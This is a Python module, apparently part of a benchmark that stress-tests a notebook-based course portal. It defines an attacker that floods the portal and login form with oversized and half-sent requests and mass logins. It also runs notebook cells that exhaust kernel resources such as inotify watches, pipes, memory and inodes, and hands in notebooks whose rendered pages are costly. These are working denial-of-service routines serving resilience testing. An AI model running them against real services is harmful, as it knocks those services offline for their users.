"""What an attacker does: a stranger with a laptop, or a teacher with a server of their own.

Each is a function that attacks until told to stop, as hard as it can. Decides nothing about
what others may notice. Called by ``measure``.
"""

import asyncio
import contextlib
import json
import re
import socket
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

from benchmarks.support import unit
from benchmarks.support.visitor import Visitor, run_on

RECORDS = "/services/records"
MB = 1_000_000
LOOKS = 120

#: Cells of a teacher's notebook. Each takes what it can and keeps it for the time given.
WATCHES = """
import ctypes, os, select, time
libc = ctypes.CDLL(None)
got = 0
while libc.inotify_init() >= 0:
    got += 1
polls, pairs = [], [os.pipe() for _ in range(400)]
try:
    while len(polls) < 400:
        polls.append(select.epoll())
        for pair in pairs:
            for end in pair:
                polls[-1].register(end, select.EPOLLIN)
except OSError:
    pass
print(got, len(polls))
time.sleep({seconds})
"""
UNCOUNTED = """
import os, time
held = []
try:
    while len(held) < 3000:
        read, write = os.pipe()
        held += read, write
        os.set_blocking(write, False)
        os.write(write, b"x" * 65536)
except OSError:
    pass
print(len(held))
try:
    fd = os.memfd_create("x")
    for _ in range(4000):
        os.write(fd, b"x" * (1 << 20))
except OSError:
    pass
time.sleep({seconds})
"""
NAMES = """
import os, shutil, time
until = time.time() + {seconds}
print("begun")
while time.time() < until:
    os.makedirs("/tmp/tree", exist_ok=True)
    try:
        for number in range(30_000):
            open("/tmp/tree/%d" % number, "w").close()
    except OSError:
        pass
    os.makedirs("many", exist_ok=True)
    open("many/first", "w").close()
    for number in range(60_000):
        os.link("many/first", "many/%d" % number)
    shutil.rmtree("many")
    shutil.rmtree("/tmp/tree")
"""
#: A table that a browser would show as 65,536 cells, and formatting that is never closed.
TABLE = "|a" * 512 + "|\n" + "|-" * 512 + "|\n" + "x\n" * 1024
TAGS = (
    "from IPython.display import HTML, display\n"
    "display(HTML('<p>' + '<b id=i>' * 2000 + '<p>x' * 2000))"
)


@dataclass
class Attacker:
    """Somebody who attacks.

    :param visitor: their browser, logged in, with a server
    :param address: host and port of the portal
    """

    visitor: Visitor
    address: tuple[str, int]
    stopped: threading.Event = field(default_factory=threading.Event)
    #: Addresses of pages made of hostile notebooks.
    pages: list[str] = field(default_factory=list)

    def at_once(self, number: int, one: Callable[[], None]) -> list[threading.Thread]:
        """Do something in so many threads until stopped, whatever comes of it."""

        def again() -> None:
            while not self.stopped.is_set():
                with contextlib.suppress(httpx.HTTPError, OSError):
                    one()

        threads = [threading.Thread(target=again, daemon=True) for _ in range(number)]
        for thread in threads:
            thread.start()
        return threads

    def nothing(self) -> None:
        """Attack nobody: what there is to compare with."""
        self.stopped.wait()

    def bodies(self) -> None:
        """Send 400 MB without a login, sixteen at once, to the portal and to the login form."""
        upload = f"{RECORDS}/api/v1/units/{uuid.uuid4()}/uploads"

        def one() -> None:
            for path in (upload, "/hub/login"):
                self._pour(path, 400 * MB)

        self._join(self.at_once(16, one))

    def half_sent(self) -> None:
        """Open 800 forms and send two bytes of each."""
        lines = []
        for _ in range(800):
            with contextlib.suppress(OSError):
                lines.append(self._begin(f"{RECORDS}/units/{uuid.uuid4()}", 900_000))
        self.stopped.wait()
        for line in lines:
            line.close()

    def logins(self) -> None:
        """Try passwords for names that there are not, ninety at once."""

        def one() -> None:
            with httpx.Client(base_url=self.visitor.url, timeout=30, trust_env=False) as http:
                http.get("/hub/login")
                form = {"username": uuid.uuid4().hex[:8], "password": "x", "_xsrf": ""}
                form["_xsrf"] = http.cookies.get("_xsrf", path="/hub/") or ""
                http.post("/hub/login", data=form)

        self._join(self.at_once(90, one))

    def views(self) -> None:
        """Open the pages of hostile notebooks, forty at once, and hang up after 3 s."""

        def one() -> None:
            for page in self.pages:
                httpx.get(
                    f"{self.visitor.url}{page}",
                    cookies=self.visitor.http.cookies,
                    timeout=3,
                    trust_env=False,
                )

        self._join(self.at_once(40, one))

    def cell(self, code: str) -> Callable[[], None]:
        """Run a cell in the attacker's own server until stopped."""

        def run() -> None:
            kernel = self.visitor.start_kernel()
            try:
                asyncio.run(self._run(kernel, code.replace("{seconds}", "3600")))
                self.stopped.wait()
            finally:
                with contextlib.suppress(Exception):
                    self.visitor.stop_kernel(kernel)

        return run

    async def _run(self, kernel: str, code: str) -> None:
        """Start it; it prints when it has what it can get."""
        address = f"{self.visitor.home}api/kernels/{kernel}/channels?session_id={uuid.uuid4().hex}"
        socket_ = await self.visitor.open_socket(address)
        with contextlib.suppress(RuntimeError, TimeoutError):
            await asyncio.wait_for(run_on(socket_, code), 60)

    def submissions(self) -> None:
        """Hand in hostile notebooks, one after another, as long as they are taken."""
        while not self.stopped.is_set():
            with contextlib.suppress(RuntimeError, httpx.HTTPError):
                self.hand_in()
            self.stopped.wait(1)

    def hand_in(self) -> str:
        """Hand in a notebook whose page is costly; return the address of its page."""
        own = f"{self.visitor.home}yanxiu/api/units"
        (one,) = self.visitor.api("GET", own).json()["units"]
        at = f"{own}/{one['assignment']}"
        path = self.visitor.api("POST", f"{at}/open", json={"choice": ""}).json()["path"]
        content = json.loads(unit.submitted(uuid.uuid4().hex))
        content["cells"] += [_code(TAGS), _text(TABLE), _text("<b>" * 40_000)]
        body = {"type": "notebook", "format": "json", "content": content}
        self.visitor.api("PUT", f"{self.visitor.home}api/contents/{path}", json=body)
        self.visitor.api("POST", f"{at}/submit", json={"confirmed": True})
        for _ in range(LOOKS):
            job = self.visitor.api("GET", f"{at}/submit").json()
            if job["state"] in ("done", "failed"):
                break
            time.sleep(0.5)
        page = self.visitor.http.get(f"{RECORDS}/units/{one['assignment']}").raise_for_status()
        found = re.findall(r"(?:submissions|receipts)/([0-9a-f-]{36})", page.text)
        if not found:
            raise RuntimeError("nothing was handed in")
        return f"{RECORDS}/submissions/{found[0]}/executed"

    def page(self) -> str:
        """Hand in a costly notebook; return the address of its page, which is there."""
        address = self.hand_in()
        for _ in range(LOOKS):
            if self.visitor.http.get(address).status_code == 200:
                return address
            time.sleep(0.5)
        raise RuntimeError(f"no page at {address}")

    def _begin(self, path: str, announced: int) -> socket.socket:
        line = socket.create_connection(self.address, timeout=20)
        host, port = self.address
        line.sendall(
            f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nOrigin: {self.visitor.url}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {announced}\r\n\r\na=".encode()
        )
        return line

    def _pour(self, path: str, announced: int) -> None:
        with self._begin(path, announced) as line, contextlib.suppress(OSError):
            for _ in range(announced >> 18):
                line.sendall(b"x" * (1 << 18))

    def _join(self, threads: list[threading.Thread]) -> None:
        for thread in threads:
            thread.join()


def _code(source: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": uuid.uuid4().hex[:8],
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def _text(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": uuid.uuid4().hex[:8], "metadata": {}, "source": source}
